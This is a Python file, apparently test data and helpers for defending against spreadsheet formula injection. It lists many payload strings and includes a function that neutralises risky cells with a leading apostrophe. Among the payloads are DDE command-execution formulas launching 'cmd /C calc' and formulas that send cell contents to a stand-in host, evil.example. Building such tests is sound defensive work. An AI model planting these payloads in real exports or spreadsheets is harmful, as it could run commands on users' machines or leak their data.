"""What people might write so that it runs in somebody's spreadsheet, and what a file makes of it."""

import unicodedata

#: Each of these begins a formula somewhere, or would where a program drops what stands before the sign.
PAYLOADS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1,1)", "=SUM(1,1)*cmd|' /C calc'!A0", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "@cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"Click")', '=IMPORTXML("http://evil.example/","//a")', '=WEBSERVICE("http://evil.example/")',
    '=IMPORTDATA("http://evil.example/"&A2)', '=DDE("cmd";"/C calc";"!A0")', "=MSEXCEL|'\\..\\..\\cmd'!'/c calc'!_xlbgnm.A1",
    "=2+5+cmd|'/C calc'!A0", "=1+1\";=1+1;\"", '"=1+1', "'=1+1", "''=1+1", "=1+1,=2+2", "x,=1+1", "x;=1+1", "x\t=1+1", "x\n=1+1", "x\r=1+1",
    "\t=1+1", "\r=1+1", "\n=1+1", "\n\r\t =1+1", " =1+1", "\u00a0=1+1", "\u3000=1+1", "\u2003=1+1", "\u200b=1+1", "\u2060=1+1", "\ufeff=1+1",
    "\u200e=1+1", "\u200f=1+1", "\u061c=1+1", "\u00ad=1+1", "\u180e=1+1", "\u200b \u00a0=1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(1,1)",
    "\u200b＝1+1", "=ﬁ(1)", "={1,2}", "=A1", "=$A$1", "=Sheet1!A1", "='00 Lab'!A1", "=\u200b1+1", "= 1 + 1", "=-1", "--1", "+-1", "-1",
    "+44 141 496 0000", "- bring cups", "@everybody", "=)", "=", "+", "-", "@", "%3D1+1", "&#61;1+1", "_x003D_1+1", "=_x0041_1",
    "<table:formula>=1+1</table:formula>", "of:=1+1", "1+1=2", "2026-12-01", "1/2", "1e5", "TRUE", "0123", "\U0001f680=1+1", "سلام=1+1",
)  # fmt: skip
#: No lab takes these: they would deceive, or end a text before its end.
REFUSED = ("\0=1+1", "x\0=1+1", "\x01=1+1", "\x0b=1+1", "\x7f=1+1", "\u202e=1+1", "\u2066=1+1", "\ufff9=1+1")

OPENERS = "=+-@\t\r\n\0＝＋－＠"


def kept(text: str) -> str:
    """What a lab makes of a text: breaks and tabs are spaces, one at a place, and none at the ends."""
    cleaned = ""
    for sign in text:
        if sign not in "\t\n\r\x85\u2028\u2029":
            cleaned += sign
        elif not cleaned.endswith(" "):
            cleaned += " "
    return cleaned.strip()


def disarmed(text: str) -> str:
    """The text as a spreadsheet may have it: with an apostrophe before it where it could be a formula."""
    for sign in text:
        if sign in OPENERS:
            return f"'{text}"
        if not sign.isspace() and unicodedata.category(sign) not in ("Cf", "Cc") and sign not in "\u180e\u034f":
            return text
    return text
